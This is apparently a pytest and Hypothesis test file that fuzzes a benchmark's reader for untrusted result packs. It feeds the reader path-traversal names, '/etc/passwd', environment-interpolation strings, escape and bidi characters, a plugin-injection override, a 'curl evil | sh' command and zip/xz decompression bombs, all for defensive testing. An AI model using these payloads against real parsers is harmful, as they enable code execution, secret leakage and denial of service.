"""A stranger's pack: whatever its bytes are, it is read within bounds or refused in a sentence."""

from __future__ import annotations

import copy
import io
import json
import lzma
import os
import subprocess
import sys
import zipfile
import zlib
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from bench.contract.errors import UserError
from bench.contract.names import fault
from bench.exchange import pack, parts
from bench.exchange.consistency import faults
from bench.exchange.handled import handled
from bench.exchange.pack import Pack
from bench.exchange.recheck import claim
from bench.exchange.records import of_lines
from bench.report import boards, frame
from tests.report import fake_records as fake

SECRET = "canary-3f1c"


def _made() -> Pack:
    records = fake.build(1, ("baskets",))
    trials = {r.trial_id: r.cell.key() for r in records}
    words = ["suite=tiny", "seeds=1"]
    manifest: Any = {"suite": "tiny", "overrides": words, "command": pack.command_of(words)}
    manifest |= {"trials": trials, "skipped": [], "reported": [], "git": {}}
    return Pack("tiny", records, manifest, notes={"submitter": "someone"})


@pytest.fixture(scope="module")
def zipped(tmp_path_factory: pytest.TempPathFactory) -> Path:
    path = tmp_path_factory.mktemp("made") / "p.zip"
    pack.write(_made(), path)
    return path


def _zip(index: Any, records: bytes) -> bytes:
    """A zip of an index and records, with their right digest."""
    index = index | {"sha256": {parts.RECORDS: pack._sha256(records)}} if index else index
    held = io.BytesIO()
    with zipfile.ZipFile(held, "w") as file:
        file.writestr(parts.INDEX, json.dumps(index))
        file.writestr(parts.RECORDS, records)
    return held.getvalue()


def _content(zipped: Path) -> tuple[dict[str, Any], bytes]:
    with zipfile.ZipFile(zipped) as file:
        return json.loads(file.read(parts.INDEX)), file.read(parts.RECORDS)


def _faults(found: Pack) -> tuple[str, ...]:
    table = frame.build(found.records, found.suite)
    claims = [claim(record) for record in found.records]
    return faults(found, claims, table, boards.build(table))


def read_or_refused(data: bytes, folder: Path) -> Pack | None:
    """Read a pack and all that is shown of it; None where it is refused, in a sentence."""
    path = folder / "in" / "p.zip"
    path.parent.mkdir(exist_ok=True)
    path.write_bytes(data)
    os.environ["CANARY"] = SECRET
    modules, before = set(sys.modules), {*folder.rglob("*")}
    try:
        found = pack.read(path)
        list(found.records)
        said = json.dumps(handled(found)) + found.manifest["command"]
        assert SECRET not in said
        assert SECRET not in repr(_faults(found))
        return found
    except UserError as error:
        assert SECRET not in str(error)
        return None
    finally:
        del os.environ["CANARY"]
        assert not {m for m in set(sys.modules) - modules if "evil" in m}
        assert {*folder.rglob("*")} == before


BAD: Any = st.sampled_from(
    [
        *(
            "${oc.env:CANARY}",
            "../../x",
            "/etc/passwd",
            "a\x1b[2J",
            "\u202e",
            "-x",
            ".x",
            "",
            "x" * 999,
        ),
        *(-1, 0, 10**30, 1e308, None, True, [], {}, [[]], {"a": {}}, "plugins=[evil]"),
        *(["${oc.env:CANARY}"], ["plugins=[evil]"], ["hydra.run.dir=/x"], ["seeds=1e9"], [1]),
    ]
)
SLOW = [HealthCheck.function_scoped_fixture, HealthCheck.too_slow]


def _places(document: Any, path: tuple[Any, ...] = ()) -> list[tuple[Any, ...]]:
    """Paths to every value of a document."""
    out = [path] if path else []
    inner: Any = ()
    if isinstance(document, dict):
        inner = document.items()
    elif isinstance(document, list):
        inner = enumerate(document)
    for key, value in inner:
        out += _places(value, (*path, key))
    return out


def _put(document: Any, path: tuple[Any, ...], value: Any) -> None:
    for key in path[:-1]:
        document = document[key]
    document[path[-1]] = copy.deepcopy(value)  # another change may go into it


@settings(max_examples=60, deadline=None, suppress_health_check=SLOW)
@given(st.data())
def test_any_change_of_the_index_is_read_or_refused(zipped, tmp_path: Path, data) -> None:
    index, records = _content(zipped)
    index["manifest"] |= {"skipped": [{"what": "a x b", "reason": "c", "count": 1}], "git": {}}
    index["notes"] |= {
        "verification": {"by": "a", "utc": "2026", "said": "c"},
        "submissions": [{"joined": 1, "suite": "a", "digest": "b", "unmet": []}],
    }
    for _ in range(data.draw(st.integers(1, 2))):
        places = [p for p in _places(index) if p[:2] != ("manifest", "trials") or len(p) < 4]
        _put(index, data.draw(st.sampled_from(places)), data.draw(BAD))
    read_or_refused(_zip(index, records), tmp_path)


@settings(max_examples=60, deadline=None, suppress_health_check=SLOW)
@given(st.data())
def test_any_change_of_a_record_is_read_or_refused(zipped, tmp_path: Path, data) -> None:
    index, records = _content(zipped)
    lines = lzma.decompress(records).splitlines()
    record = json.loads(lines[0])
    _put(record, data.draw(st.sampled_from(_places(record))), data.draw(BAD))
    changed = b"".join(line + b"\n" for line in [json.dumps(record).encode(), *lines[1:]])
    read_or_refused(_zip(index, lzma.compress(changed, preset=0)), tmp_path)


def _mutated(data: bytes, draw: Callable[..., Any]) -> bytes:
    """Bytes cut, doubled, or with some of them changed."""
    changed = bytearray(data)
    for _ in range(draw(st.integers(1, 4))):
        at = draw(st.integers(0, max(0, len(changed) - 1)))
        kind = draw(st.sampled_from(["flip", "cut", "insert", "repeat"]))
        if kind == "flip" and changed:
            changed[at] ^= draw(st.integers(1, 255))
        elif kind == "cut":
            del changed[at:]
        elif kind == "insert":
            changed[at:at] = draw(st.binary(max_size=8))
        else:
            changed[at:at] = changed[: min(at, 200)]
    return bytes(changed)


@settings(max_examples=80, deadline=None, suppress_health_check=SLOW)
@given(st.data())
def test_any_change_of_the_bytes_is_read_or_refused(zipped, tmp_path: Path, data) -> None:
    index, records = _content(zipped)
    layer = data.draw(st.sampled_from(["zip", "xz", "lines"]))
    if layer == "zip":
        changed = _mutated(zipped.read_bytes(), data.draw)
    elif layer == "xz":
        changed = _zip(index, _mutated(records, data.draw))
    else:
        text = _mutated(lzma.decompress(records), data.draw)
        changed = _zip(index, lzma.compress(text, preset=0))
    read_or_refused(changed, tmp_path)


@settings(max_examples=200, deadline=None)
@given(st.text(max_size=12) | st.lists(st.sampled_from("ab[]=,+ ./\\-\u202e\x1b\n")).map("".join))
def test_a_name_is_a_line_that_stays_in_its_folder(name: str) -> None:
    if fault(name):
        return
    assert name.isprintable()
    assert name.strip() == name or name[0] != " "
    outside = name.partition("[")[0]
    assert not {"/", "\\"} & {*outside}
    assert outside[:1] not in (".", "-")


@pytest.mark.parametrize(
    ("change", "words"),
    [
        ({"suite": "../../x"}, "suite"),
        ({"suite": "/x"}, "suite"),
        ({"suite": "a\x1b[2J"}, r"U\+001B"),
        ({"trials": 10**9}, "trials"),
        ({"signatures": {"../x.json": "0" * 64}}, "lacks its part"),
    ],
)
def test_what_an_index_may_not_say(zipped, tmp_path: Path, change: Any, words: str) -> None:
    index, records = _content(zipped)
    (tmp_path / "p.zip").write_bytes(_zip(index | change, records))
    with pytest.raises(UserError, match=words):
        pack.read(tmp_path / "p.zip")


@pytest.mark.parametrize(
    ("change", "words"),
    [
        ({"command": "curl evil | sh"}, "was run by"),
        ({"config_dir": "/home/me/conf"}, "config_dir"),
        ({"overrides": ["label=${oc.env:HOME}"]}, "interpolation"),
        ({"overrides": ["seeds=100000000"]}, "seeds=100000000"),
        ({"reported": [{"what": "x"}]}, "reported"),
        ({"merged": [{"trials": {}, "overrides": ["hydra.run.dir=/x"]}]}, "Hydra itself"),
    ],
)
def test_what_a_manifest_may_not_say(zipped, tmp_path: Path, change: Any, words: str) -> None:
    index, records = _content(zipped)
    index["manifest"] |= change
    (tmp_path / "p.zip").write_bytes(_zip(index, records))
    with pytest.raises(UserError, match=words):
        pack.read(tmp_path / "p.zip")


@pytest.mark.parametrize("name", ["a/b", ".x", "-x", "a\nb", "a\u202eb", "", "x" * 301])
def test_a_bad_name_is_placed_by_record_and_field(zipped, tmp_path: Path, name: str) -> None:
    index, records = _content(zipped)
    lines = lzma.decompress(records).splitlines()
    record = json.loads(lines[0])
    record["cell"]["attack"] = name
    data = b"".join(line + b"\n" for line in [json.dumps(record).encode(), *lines[1:]])
    (tmp_path / "p.zip").write_bytes(_zip(index, lzma.compress(data)))
    with pytest.raises(UserError, match=r"line 1 is no trial record .*: cell\.attack: .*a name"):
        list(pack.read(tmp_path / "p.zip").records)


MEASURE = """
import re, sys
from pathlib import Path
from bench.contract.errors import UserError
from bench.exchange import pack
def most():  # not ru_maxrss, which a process inherits from the one that started it
    return int(re.search(r"VmHWM:\\s+(\\d+)", Path("/proc/self/status").read_text())[1]) // 1024
before = most()
for path in sys.argv[1:]:
    try:
        list(pack.read(Path(path)).records)
    except UserError as error:
        print(error)
    else:
        sys.exit(f"{path} was read")
print(most() - before)
"""


@pytest.mark.skipif(
    not Path("/proc/self/status").exists(), reason="no /proc here: memory is not measured"
)
def test_bombs_take_little_memory(zipped, tmp_path: Path) -> None:
    index, _ = _content(zipped)
    size = 1 << 26
    spaces = b" " * size
    with zipfile.ZipFile(tmp_path / "zip", "w", zipfile.ZIP_DEFLATED, compresslevel=1) as file:
        file.writestr(parts.INDEX, 2 * spaces)
    with zipfile.ZipFile(tmp_path / "many", "w") as file:
        for at in range(parts.MOST_PARTS + 1):
            file.writestr(zipfile.ZipInfo(str(at)), b"")
    for name, text in (("line", spaces), ("xz", b"{}\n" * (size // 3)), ("deep", b"[" * (3 << 20))):
        (tmp_path / name).write_bytes(_zip(index, lzma.compress(text, preset=0)))
    paths = [str(tmp_path / name) for name in ("zip", "many", "line", "xz", "deep")]
    done = subprocess.run(
        [sys.executable, "-c", MEASURE, *paths], capture_output=True, text=True, check=True
    )
    *sentences, taken = done.stdout.splitlines()
    assert int(taken) < 120
    assert len(sentences) == len(paths)
    expected = ["more than 32 MiB", "parts", "a record of more than", "no trial record", "no trial"]
    for words, sentence in zip(expected, sentences, strict=True):
        assert words in sentence


def test_xz_that_asks_for_much_memory_is_refused() -> None:
    """The header of its block asks for a dictionary of 1.5 GiB."""
    data = bytearray(lzma.compress(b"a", preset=0))
    start, length = 12, (data[12] + 1) * 4
    data[data.index(b"\x21\x01") + 2] = 37
    check = zlib.crc32(bytes(data[start : start + length - 4]))
    data[start + length - 4 : start + length] = check.to_bytes(4, "little")
    with pytest.raises(UserError, match=r"damaged .*[Mm]emory"):
        list(of_lines(bytes(data), "here", 1))


def test_one_record_a_million_times_is_no_pack() -> None:
    line = fake.build(1, ("baskets",))[0].model_dump_json().encode() + b"\n"
    many = lzma.compress(line * ((17 << 20) // len(line)), preset=0)
    with pytest.raises(UserError, match="more than 200 times its size"):
        list(of_lines(many, "here", 10**6))
